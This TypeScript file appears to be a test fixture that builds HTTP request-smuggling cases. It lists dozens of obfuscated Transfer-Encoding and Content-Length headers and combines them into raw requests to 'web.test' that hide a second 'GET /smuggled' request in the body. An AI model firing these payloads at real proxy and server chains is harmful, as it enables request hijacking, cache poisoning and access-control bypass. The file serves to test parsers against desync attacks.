/**
 * Ways in which lengths and codings have been hidden from one of two servers in a row. Each comes with a second request in
 * its content: whoever reads the hidden length sees one request, whoever does not sees two.
 */
const host = 'Host: web.test\r\n';
const second = `GET /smuggled HTTP/1.1\r\n${host}\r\n`;
const content = `0\r\n\r\n${second}`;
const length = `Content-Length: ${content.length}\r\n`;
const coding = 'Transfer-Encoding: chunked\r\n';

/** Written instead of, or beside, a plain coding. */
const hiddenCodings = [
  'Transfer-Encoding : chunked',
  'Transfer-Encoding\t: chunked',
  'Transfer-Encoding\x0b: chunked',
  'Transfer-Encoding\0: chunked',
  'Transfer-Encoding\xa0: chunked',
  'Transfer-Encoding\r: chunked',
  ' Transfer-Encoding: chunked',
  '\tTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\x0b',
  'Transfer-Encoding: \x0cchunked',
  'Transfer-Encoding: chunked\0',
  'Transfer-Encoding: chunked\rX: y',
  'Transfer-Encoding: chunked\nX: y',
  'X: y\nTransfer-Encoding: chunked',
  'X: y\rTransfer-Encoding: chunked',
  'Transfer-Encoding:\r\n chunked',
  'Transfer-Encoding:\n chunked',
  'Transfer-Encoding: chunk',
  'Transfer-Encoding: chunkedchunked',
  'Transfer-Encoding: chunked chunked',
  'Transfer-Encoding: chunked,',
  'Transfer-Encoding: ,chunked',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: identity',
  'Transfer-Encoding: cow, chunked',
  'Transfer-Encoding: chunked, cow',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: cow',
  'Transfer-Encoding: cow\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\ntransfer-encoding: identity',
  "Transfer-Encoding: 'chunked'",
  'Transfer-Encoding: "chunked"',
  'Transfer-Encoding: chunked; a=b',
  'Transfer-Encoding: chunKed\x85',
  'Transfer-Encoding: \xefchunked',
  'Transfer-Encoding: {chunked}',
  'Transfer-Encoding: gzip',
  'Transfer-Encoding: deflate, chunked',
];

/** Written instead of a plain length, with a coding beside it or alone. */
const hiddenLengths = [
  `Content-Length : ${content.length}`,
  `Content-Length\t: ${content.length}`,
  `Content-Length\0: ${content.length}`,
  `Content-Length\xa0: ${content.length}`,
  ` Content-Length: ${content.length}`,
  `Content-Length:\r\n ${content.length}`,
  `Content-Length: ${content.length},${content.length}`,
  `Content-Length: 0,${content.length}`,
  `Content-Length: ${content.length}\r\nContent-Length: 0`,
  `Content-Length: 0\r\nContent-Length: ${content.length}`,
  `Content-Length: ${content.length}\r\ncontent-length: ${content.length}`,
  `Content-Length: +${content.length}`,
  `Content-Length: -0`,
  `Content-Length: 0x${content.length.toString(16)}`,
  `Content-Length: ${content.length}e0`,
  `Content-Length: ${content.length}.`,
  `Content-Length: ${content.length}\0`,
  `Content-Length: ${content.length}\x0b`,
  `Content-Length: ${content.length} bytes`,
  `Content-Length: "${content.length}"`,
  `Content-Length: ${content.length};`,
  `Content-Length: 1${'0'.repeat(20)}`,
  `Content-Length: \u0664`,
  `Content-Length: ${content.length}\rX: y`,
  `Content-Length: ${content.length}\nX: y`,
];

export const hidden: readonly (readonly [name: string, text: string])[] = [
  ...all(hiddenCodings, (field) => [field, `POST / HTTP/1.1\r\n${host}${field}\r\n\r\n${content}`]),
  ...all(hiddenCodings, (field) => [
    `${field} and a length`,
    `POST / HTTP/1.1\r\n${host}${length}${field}\r\n\r\n${content}`,
  ]),
  ...all(hiddenLengths, (field) => [field, `POST / HTTP/1.1\r\n${host}${field}\r\n\r\n${content}`]),
  ...all(hiddenLengths, (field) => [
    `${field} and a coding`,
    `POST / HTTP/1.1\r\n${host}${coding}${field}\r\n\r\n${content}`,
  ]),
  ...all(hiddenLengths, (field) => [
    `${field} of a GET`,
    `GET / HTTP/1.1\r\n${host}${field}\r\n\r\n${content}`,
  ]),
];

function all(fields: readonly string[], request: (field: string) => readonly [name: string, text: string]) {
  return fields.map(request);
}
